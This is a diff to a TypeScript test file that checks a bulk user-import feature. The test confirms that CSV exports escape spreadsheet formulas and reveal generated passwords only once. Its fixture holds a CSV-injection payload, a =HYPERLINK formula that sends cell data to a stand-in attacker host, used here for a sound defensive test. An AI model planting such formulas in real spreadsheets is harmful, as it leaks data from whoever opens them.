@@ -1,8 +1,10 @@
 // The bulk channels through dispatch, as the renderer calls them: arguments checked, plans stored
 // or refused as a whole, job actions and progress notices.
+import { parse } from 'csv-parse/sync';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import type { IpcNotice, JobProgress } from '../../../shared/ipc';
 import { silentLogger } from '../../../main/api/logger';
+import { markDone, markRunning } from '../../../main/admin/job-store';
 import type { AccountSession } from '../../../main/app/session';
 import { bulkHandlers } from '../../../main/handlers/bulk';
 import type { CoreContext } from '../../../main/handlers/context';
@@ -73,5 +75,28 @@ describe('bulk channels', () => {
   it('plans a deactivation with the comment kept for the job', async () => {
     const planned = await call('bulk.planDeactivate', { user_ids: [1, 3], deactivation_notification_comment: 'Bye' });
     expect(planned).toMatchObject({ ok: true, value: { job: { kind: 'deactivate_users', total: 2, skipped: 1 } } });
+  });
+
+  it('exports names as text, never as formulas, and the generated passwords once', async () => {
+    const hyperlink = '=HYPERLINK("https://evil.example/?leak="&E2,"Click")';
+    const csv = `email,full_name,password\nformula@x.com,"${hyperlink.replaceAll('"', '""')}",\nown@x.com,@SUM(1+1),from-the-file\n`;
+    const planned = await call('bulk.planImport', { csv });
+    const job_id = (planned as { value: { job: JobProgress } }).value.job.job_id;
+    // Both sent and created, as the runner would record them.
+    for (const [index, user_id] of [[0, 10], [1, 11]] as const) {
+      markRunning(db, job_id, index);
+      markDone(db, job_id, index, { user_id });
+    }
+    const exportRows = async () => {
+      const exported = (await call('bulk.export', { job_id })) as { value: { csv: string } };
+      return parse(exported.value.csv, { bom: true, columns: true }) as Record<string, string>[];
+    };
+    const first = await exportRows();
+    expect(first.map((row) => row.full_name)).toEqual([`'${hyperlink}`, "'@SUM(1+1)"]);
+    expect(first[0]!.password).toMatch(/^[0-9a-f]{32}$/);
+    expect(first[1]!.password).toBe('');
+    // Shown once: the mirror no longer holds any password, and a second export has none.
+    expect(JSON.stringify(db.prepare('SELECT * FROM bulk_job_items').all())).not.toContain(first[0]!.password);
+    expect((await exportRows()).map((row) => row.password)).toEqual(['', '']);
   });
 });
